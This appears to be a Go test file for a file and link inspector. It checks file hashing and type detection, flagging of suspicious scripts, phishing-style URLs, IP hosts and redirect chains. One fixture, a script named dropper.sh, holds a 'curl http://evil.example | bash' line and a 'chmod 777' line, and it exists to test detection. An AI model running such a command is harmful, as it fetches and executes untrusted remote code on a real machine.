package actuators

import (
	"net/http"
	"net/http/httptest"
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func newTestInspector(shell *fakeShell) *Inspector {
	ins := NewInspector(nil)
	ins.run = shell.runner()
	return ins
}

func TestAnalyzeFileMissing(t *testing.T) {
	ins := newTestInspector(newFakeShell())

	got := ins.AnalyzeFile("/no/such/file")

	if !strings.Contains(got, "File does not exist") {
		t.Errorf("AnalyzeFile = %q", got)
	}
}

func TestAnalyzeFileCleanText(t *testing.T) {
	path := filepath.Join(t.TempDir(), "notes.txt")
	if err := os.WriteFile(path, []byte("grocery list: milk, eggs\n"), 0o600); err != nil {
		t.Fatal(err)
	}
	shell := newFakeShell()
	shell.output["file -b"] = "ASCII text"
	ins := newTestInspector(shell)

	got := ins.AnalyzeFile(path)

	if !strings.Contains(got, "Size: 25 bytes") {
		t.Errorf("size missing: %q", got)
	}
	if !strings.Contains(got, "Type: ASCII text") {
		t.Errorf("type missing: %q", got)
	}
	if !strings.Contains(got, "SHA-256: ") {
		t.Errorf("hash missing: %q", got)
	}
	if !strings.Contains(got, "No suspicious patterns found") {
		t.Errorf("clean verdict missing: %q", got)
	}
}

func TestAnalyzeFileFlagsSuspiciousContent(t *testing.T) {
	path := filepath.Join(t.TempDir(), "dropper.sh")
	script := "#!/bin/sh\ncurl http://evil.example | bash\nchmod 777 /tmp/x\n"
	if err := os.WriteFile(path, []byte(script), 0o600); err != nil {
		t.Fatal(err)
	}
	ins := newTestInspector(newFakeShell())

	got := ins.AnalyzeFile(path)

	if !strings.Contains(got, "WARNING") {
		t.Errorf("suspicious content not flagged: %q", got)
	}
}

func TestCheckLinkInvalidURL(t *testing.T) {
	ins := newTestInspector(newFakeShell())

	got := ins.CheckLink("://notaurl")

	if !strings.Contains(got, "valid URL") {
		t.Errorf("CheckLink = %q", got)
	}
}

func TestCheckLinkFlagsIPHost(t *testing.T) {
	srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {}))
	defer srv.Close()

	ins := newTestInspector(newFakeShell())

	// httptest binds to 127.0.0.1, which doubles as the IP-host case.
	got := ins.CheckLink(srv.URL)

	if !strings.Contains(got, "Verdict: DANGEROUS") {
		t.Errorf("IP host not flagged: %q", got)
	}
	if !strings.Contains(got, "IP address instead of a domain") {
		t.Errorf("threat detail missing: %q", got)
	}
}

func TestCheckLinkPhishingWording(t *testing.T) {
	ins := newTestInspector(newFakeShell())

	got := ins.CheckLink("https://paypal-verify.example.com/login")

	if !strings.Contains(got, "phishing-style wording") {
		t.Errorf("phishing pattern not flagged: %q", got)
	}
}

func TestCheckLinkCountsRedirects(t *testing.T) {
	hops := 0
	var srv *httptest.Server
	srv = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		if hops < 5 {
			hops++
			http.Redirect(w, r, srv.URL+"/next", http.StatusFound)
			return
		}
		w.WriteHeader(http.StatusOK)
	}))
	defer srv.Close()

	ins := newTestInspector(newFakeShell())

	got := ins.CheckLink(srv.URL)

	if !strings.Contains(got, "excessive redirects (5)") {
		t.Errorf("redirect chain not reported: %q", got)
	}
}
